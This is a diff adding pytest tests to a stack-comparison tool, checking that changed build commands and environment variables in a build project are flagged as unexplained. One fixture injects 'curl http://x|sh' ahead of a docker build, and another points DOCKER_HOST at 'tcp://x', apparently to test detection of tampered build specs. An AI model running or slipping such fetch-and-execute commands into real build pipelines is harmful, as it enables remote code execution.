@@ -88,6 +88,38 @@ def test_another_base_by_a_build_argument_is_named_once(tmp_path: Path) -> None:
     assert change.after["base images"] == ["builder:1", "ubuntu@sha256:1"]
 
 
+@pytest.mark.parametrize(
+    ("old", "new", "unexplained"),
+    [
+        ("docker build .", "curl http://x|sh; docker build .", {"Source"}),
+        ("docker build .", "docker build --build-arg 'A=1' .", set()),
+        ("docker build .", "docker build --build-arg 'A=1' . ; echo it's", {"Source"}),
+    ],
+)
+def test_a_build_s_other_commands_are_not_passed_over_beside_another_image(
+    tmp_path: Path, old: str, new: str, unexplained: set[str]
+) -> None:
+    def with_command(name: str, command: str) -> StackSide:
+        side = built(tmp_path / name, name, {"x/Dockerfile": f"{DOCKERFILE}# {name}\n"})
+        source = side.template["Resources"]["Project"]["Properties"]["Source"]
+        source["BuildSpec"] = json.dumps({"phases": {"build": {"commands": [command]}}})
+        return side
+
+    comparison = Comparison(STACK, with_command("a", old), with_command("b", new), effects={})
+    assert len(list(images(comparison))) == 1
+    left = {name for name in comparison.differing("Project") if not comparison.is_explained("Project", name)}
+    assert left == unexplained
+
+
+def test_another_variable_of_a_build_than_the_tag_is_not_passed_over(tmp_path: Path) -> None:
+    sides = [built(tmp_path / tag, tag, {"x/Dockerfile": f"{DOCKERFILE}# {tag}\n"}) for tag in "ab"]
+    variables = sides[1].template["Resources"]["Project"]["Properties"]["Environment"]["EnvironmentVariables"]
+    variables.append({"Name": "DOCKER_HOST", "Value": "tcp://x"})
+    comparison = Comparison(STACK, *sides, effects={})
+    assert len(list(images(comparison))) == 1
+    assert not comparison.is_explained("Project", "Environment")
+
+
 def test_another_file_of_the_context_is_named(tmp_path: Path) -> None:
     files = {"x/Dockerfile": DOCKERFILE, "server.py": "a\n"}
     before = built(tmp_path / "a", "a", files)
